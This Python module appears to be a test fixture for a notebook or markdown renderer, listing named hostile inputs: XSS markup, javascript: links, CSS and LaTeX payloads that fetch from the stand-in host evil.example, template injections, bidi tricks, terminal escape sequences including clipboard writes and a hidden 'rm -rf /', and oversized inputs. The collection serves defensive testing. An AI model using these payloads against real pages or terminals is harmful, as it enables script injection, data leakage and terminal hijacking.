"""What a hostile model, account or file may say, by name, and how it would be noticed.

In a page each payload that runs calls `hacked(…)`; what it would fetch is at `OUTSIDE`. In a
terminal nothing of `TERMINAL` may be written as it is.
"""

from __future__ import annotations

OUTSIDE = "evil.example"
_FAR = f"https://{OUTSIDE}"
_RUN = "hacked(1)"
_UP = "(window.hacked||parent.hacked)(1)"

MARKUP = {
    "script": f"<script>{_RUN}</script>",
    "script from outside": f"<SCRIPT/SRC={_FAR}/x.js></SCRIPT>",
    "script of a module": f"<script type=module>import('{_FAR}/x.mjs'); {_RUN}</script>",
    "script in a script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script with a zero": f"<script\0>{_RUN}</script\0>",
    "alert": "<script>alert(1)</script><img src=x onerror=confirm(1)>",
    "window": f"<script>open('{_FAR}')</script><img src=x onerror=\"open('{_FAR}')\">",
    "image": f'<img src=x onerror="{_RUN}">',
    "image without blanks": f"<img/src=x/onerror={_RUN}>",
    "image that never closes": f'<img src=x onerror="{_RUN}" ',
    "image from outside": f"<img src={_FAR}/p.png><img src=//{OUTSIDE}/p.png>",
    "image by srcset": f'<img srcset="{_FAR}/p.png 1x, {_FAR}/q.png 2x"><picture><source srcset={_FAR}/r.png>',
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    "svg with a script": f"<svg><script>{_RUN}</script><script href={_FAR}/x.js /></svg>",
    "svg that fetches": f"<svg><image href={_FAR}/p.png /><use href='{_FAR}/s.svg#x'/></svg>",
    "svg with a link": f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    "svg as a foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{_UP}</script>'></foreignObject>",
    "svg as data": f"<object data='data:image/svg+xml,<svg onload={_UP} xmlns=http://www.w3.org/2000/svg/>'>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table>",
    "math with a link": f"<math href='javascript:{_RUN}'>x</math><maction actiontype=statusline#x>y</maction>",
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "focus": f"<input autofocus onfocus={_RUN}><div tabindex=1 autofocus onfocus={_RUN}>x</div>",
    "animation": f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_RUN}>x</b>",
    "body": f"<body onload={_RUN} onpageshow={_RUN}><marquee onstart={_RUN}>x</marquee>",
    "video": f"<video src={_FAR}/v poster={_FAR}/p onerror={_RUN}><source onerror={_RUN} src=x></video>",
    "audio": f"<audio autoplay src={_FAR}/a onerror={_RUN}></audio><track src={_FAR}/t>",
    "iframe": f"<iframe srcdoc='<script>{_UP}</script>'></iframe><iframe src={_FAR}></iframe>",
    "iframe of a script": f"<iframe src='javascript:{_UP}'></iframe>",
    "embed": f"<embed src={_FAR}/e><object data={_FAR}/o></object><applet code={_FAR}/c>",
    "form": f"<form action={_FAR} id=f><input name=p></form><button form=f formaction='javascript:{_RUN}'>x",
    "refresh": f"<meta http-equiv=refresh content='0;url={_FAR}'><meta http-equiv=refresh content='0;javascript:{_RUN}'>",
    "base": f"<base href={_FAR}/><base target=_top>",
    "links in a head": f"<link rel=stylesheet href={_FAR}/x.css><link rel=prefetch href={_FAR}/x><link rel=dns-prefetch href={_FAR}>",
    "background": f"<table background={_FAR}/b><tr><td background={_FAR}/c>x</td></tr></table>",
    "clobbering": "<a id=jupyterapp></a><a id=hacks name=hacks></a><img name=rig><form name=document>",
    "custom element": f"<x-y onclick={_RUN} is=z></x-y><slot onslotchange={_RUN}></slot>",
    "dialog": f"<dialog open onclose={_RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    "jupyter's own": "<button class=jp-ToolbarButtonComponent data-commandlinker-command=notebook:run-all-cells>x</button>",
}
CLOSING = {
    "close a script": f"</script><script>{_RUN}</script>",
    "close a style": f"</style><img src=x onerror={_RUN}>",
    "close a text": f"</textarea></title></noscript><img src=x onerror={_RUN}>",
    "close a block": f"</pre></code></div></td></tr></table><script>{_RUN}</script>",
    "close an attribute": f"\"'`><img src=x onerror={_RUN}>",
    "close an attribute by an event": f"\" onmouseover=\"{_RUN}\" x=\" ' onfocus='{_RUN}' autofocus='",
    "comment": f"<!--><img src=x onerror={_RUN}>--> <!-- --!><img src=x onerror={_RUN}>",
    "cdata": f"<![CDATA[><img src=x onerror={_RUN}>]]> <?xml ?><!DOCTYPE html>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62;",
    "widget's json": f'{{"a": "</script><script>{_RUN}</script>"}}',
}
LINKS = {
    "script": f"[x](javascript:{_RUN}) [x](JaVaScRiPt:{_RUN}) <javascript:{_RUN}>",
    "script in pieces": f"[x](java\tscript:{_RUN}) [x](&#106;avascript:{_RUN}) [x](java\nscript:{_RUN})",
    "script of an element": f"<a href='java&#x0A;script:{_RUN}'>x</a><a href='\x01javascript:{_RUN}'>x</a>",
    "data": "[x](data:text/html,<script>hacked(1)</script>) [x](data:text/html;base64,PHNjcmlwdD4=)",
    "others": "[x](vbscript:x) [x](file:///etc/passwd) [x](blob:x) [x](view-source:x) [x](command:x)",
    "picture": f"![p]({_FAR}/p.png) ![p](javascript:{_RUN}) ![p][r]\n\n[r]: {_FAR}/q.png",
    "ping": f"<a href=https://x.example ping={_FAR} target=_top download onclick={_RUN}>x</a>",
    "title": f'[x](https://x.example "\\"><script>{_RUN}</script>") [x](https://x.example/"onclick={_RUN})',
    "fence": f'```"><script>{_RUN}</script>\nx\n```\n```js" onmouseover="{_RUN}\ny\n```',
    "code": f"`</code><script>{_RUN}</script>`\n\n    </code></pre><script>{_RUN}</script>\n",
    "bare": f'javascript:{_RUN} https://x.example/?<script>{_RUN}</script> www.x.example/"onclick={_RUN}',
}
STYLES = {
    "import": f"<style>@import url({_FAR}/x.css); * {{display: none !important}}</style>",
    "url": f"<p style='background:url({_FAR}/b); position:fixed; inset:0; z-index:99999'>x</p>",
    "value": f"red; background: url({_FAR}/b); position: fixed; inset: 0",
    "value that closes": f"red}} * {{ background: url({_FAR}/b); display: none }} x {{",
    "expression": f"<p style='width:expression({_RUN});behavior:url({_FAR}/x.htc);-moz-binding:url({_FAR})'>x",
    "class": "<div class='jp-Dialog jp-mod-active' style='position:fixed;inset:0'>x</div>",
}
FORMULAS = {
    "font": rf"$\unicode[x;background:url(//{OUTSIDE}/f)]{{65}}$",
    "font of a token": rf"$\mmlToken{{mi}}[fontfamily='x;background:url(//{OUTSIDE}/m)']{{x}}$",
    "style alone": r"$$\style{position:fixed;inset:0}{x}$$",
    "definition": r"$\gdef\frac{\text{gone}}$ $\frac{1}{2}$",
    "link": rf"$\href{{javascript:{_RUN}}}{{x}}$ \(\href{{javascript:{_RUN}}}{{y}}\)",
    "style": rf"$$\style{{background:url({_FAR}/b);position:fixed;inset:0}}{{x}} \class{{jp-Dialog}}{{y}} \cssId{{rig}}{{z}}$$",
    "unicode": rf"$\require{{html}}\unicode{{<script>{_RUN}</script>}}$ \[\unicode[x;background:url({_FAR}/b)]{{65}}\]",
    "markup": rf"$\text{{<img src=x onerror={_RUN}>}}$ $</script><script>{_RUN}</script>$",
    "includes": rf"\(\includegraphics{{{_FAR}/p.png}}\) \input{{/etc/passwd}} \require{{{_FAR}/x}}",
    "environment": rf"\begin{{align}}\href{{javascript:{_RUN}}}{{x}}\end{{align}}",
    "endless": r"$\def\x{\x\x}\x$ $\newcommand\y{\y\y}\y$",
    "harmless": r"$x^2 + \frac{1}{2}$",
    "brackets": "$$" + "{" * 300 + "}" * 300 + "$$",
}
TEMPLATES = {
    "mustache": f"{{{{constructor.constructor('{_RUN}')()}}}} {{{{7*7}}}} {{% raw %}}{{{{x}}}}",
    "literal": f"${{{_RUN}}} `${{{_RUN}}}` #{{{_RUN}}} <%= {_RUN} %>",
    "format": "{0.__class__} {prompt!r} %s %(x)s %n {self._client._token}",
    "prototype": '{"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}}',
    "rich": "[link=https://x.example]x[/link] [bold red]y",
}
MARKS = {
    "bidi": "\u202eevil\u202c \u2066x\u2069 \u202aa\u202b \u200f\u061c",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f\u00adg",
    "lines": "a\u2028b\u2029c\x85d\x0be\x0cf\rg",
    "halves": "\ud83d \ude00 \udfff",
    "many marks": "Z" + "\u0301\u0489" * 400,
    "odd": "\uffff\ufdd0\U000e0041\U000e007f\U0010ffff\x7f\x00",
}
TERMINAL = {
    "clear": "\x1b[2J\x1b[H\x1b[3J",
    "colour": "\x1b[41mred\x1b[8mhidden\x1b[45m",
    "title": "\x1b]0;evil\x07\x1b]2;evil\x1b\\",
    "link": "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07\x1b]8;;file:///etc/passwd\x1b\\y\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07\x1b]52;p;?\x1b\\",
    "file": "\x1b]1337;File=name=eA==;inline=1:AAAA\x07\x1b]9;4;1;50\x07\x1b]777;notify;a;b\x07",
    "dcs": '\x1bP$q"p\x1b\\\x1bP+q544e\x1b\\\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\',
    "reports": "\x1b[6n\x1b[c\x1b[>c\x1b[21t\x1b[5i\x1b[4i\x1b[x",
    "modes": "\x1b[?1049h\x1b[?25l\x1b[?1000h\x1b[?2004l\x1bc\x1b=\x1b#8\x1b(0",
    "apc": "\x1b_Gf=24;AAAA\x1b\\\x1b^privacy\x1b\\\x1bXsos\x1b\\",
    "c1": "\x9b31m\x9d52;c;eA==\x9c\x90q\x9c\x9f\x9e\x98\x84\x85\x8d",
    "controls": "a\x08\x08\x08b\x07\x0e\x0f\x05\x7f\x00\x1a",
    "overwrite": "harmless\rrm -rf /   \x1b[7Aabove",
    "unfinished": "\x1b[38;5;\x1b]0;never ends",
}
LARGE = {
    "one word": "W" * 300_000,
    "signs": "<" * 20_000,
    "open elements": "<b><i><a href=x>" * 3_000,
    "quotes": "> " * 3_000 + "x",
    "lists": "".join(f"{'  ' * n}- x\n" for n in range(300)),
    "emphasis": "*_" * 5_000 + "`" * 2_001,
    "brackets": "[" * 4_900 + "]" * 4_900,
}
PAGE = {
    f"{kind}: {name}": payload
    for kind, payloads in {
        "markup": MARKUP, "closing": CLOSING, "link": LINKS, "style": STYLES,
        "formula": FORMULAS, "template": TEMPLATES, "mark": MARKS, "terminal": TERMINAL,
    }.items()
    for name, payload in payloads.items()
}  # fmt: skip


def deep(levels=300, value="<img src=x onerror=hacked(1)>"):
    """A value within values, with hostile names all the way down."""
    for _ in range(levels):
        value = {value if isinstance(value, str) else "<b>": [value]}
    return value
